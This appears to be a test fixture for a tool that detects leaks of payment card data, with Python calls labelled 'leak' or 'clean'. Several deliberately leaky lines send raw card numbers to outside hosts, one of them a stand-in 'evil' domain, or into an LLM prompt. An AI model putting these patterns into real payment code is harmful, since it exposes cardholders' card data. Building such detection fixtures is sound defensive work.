"""Handlers, requests to others, sinks that accept."""

import analytics
import flask
import httpx
import openai
import requests
import warehouse
from fastapi import FastAPI

from shop.masking import Masker, billing_address, mask_pan
from shop.vault import get_card, get_name

app = FastAPI()
site = flask.Flask(__name__)
client = openai.OpenAI()
PSP = "https://psp.example/v1/charge"
OTHER = "https://other.example/v1"


@app.get("/card")
def show(customer):
    return {"card": get_card(customer)}  # leak


@app.get("/name")
def show_name(customer):
    return {"name": get_name(customer)}  # clean


@app.post("/masked")
async def show_masked(customer):
    return {"card": mask_pan(get_card(customer))}  # clean


@site.route("/old")
def old(customer):
    if customer == "a":
        return "nothing"  # clean
    return flask.jsonify(card=get_card(customer))  # leak


def not_a_handler(customer):
    return get_card(customer)


def charge(customer):
    card = get_card(customer)
    requests.post("https://psp.example/charge", json={"card": card})  # clean
    requests.post("https://other.example/charge", json={"card": card})  # leak
    requests.post("https://psp.example.evil.example/", json={"card": card})  # leak
    requests.post(PSP, json={"card": card})  # clean
    requests.post(OTHER, json={"card": card})  # leak
    requests.post(f"https://psp.example/{customer}", json={"card": card})  # clean
    requests.post(f"https://{customer}/", json={"card": card})  # leak
    requests.post(url="https://psp.example/x", data=card)  # clean
    requests.get("https://other.example/?card=" + card)  # leak
    requests.get("https://other.example/", headers={"x": get_name(customer)})  # clean
    httpx.post("https://other.example/", content=card)  # leak


def charge_session(customer):
    with requests.Session() as session:
        session.post("https://other.example/", data=get_card(customer))  # leak
        session.post("https://psp.example/", data=get_card(customer))  # clean


def ask(customer):
    client.chat.completions.create(model="m", messages=[{"content": get_card(customer)}])  # leak
    client.chat.completions.create(model="m", messages=[{"content": get_name(customer)}])  # clean


def track(customer):
    analytics.track(customer, "paid", {"plan": "gold"})  # clean
    analytics.track(get_card(customer), "paid")  # clean
    analytics.track(customer, get_card(customer))  # leak
    analytics.track(customer, event="paid", properties={"card": get_card(customer)})  # leak


def store(customer, user):
    warehouse.store(get_card(customer))  # leak
    warehouse.store(user.email)  # clean
    warehouse.store(get_name(customer))  # clean


def reclassified(customer):
    card = get_card(customer)
    print(mask_pan(card))  # clean
    masked = mask_pan(card)
    print(masked, customer)  # clean
    print(masked, card)  # leak
    print(Masker().last_four(card))  # clean
    print(Masker().echo(card))  # leak
    card = mask_pan(card)
    print(card)  # clean


def shadowed(customer):
    mask_pan = lambda text: text  # noqa: E731
    print(mask_pan(get_card(customer)))  # leak


def other_mask(customer):
    from elsewhere import mask_pan

    print(mask_pan(get_card(customer)))  # leak


def relabelled(customer):
    address = billing_address(get_card(customer))
    warehouse.store(address)  # clean
    print(address)  # leak
    requests.post("https://other.example/", data=address)  # clean
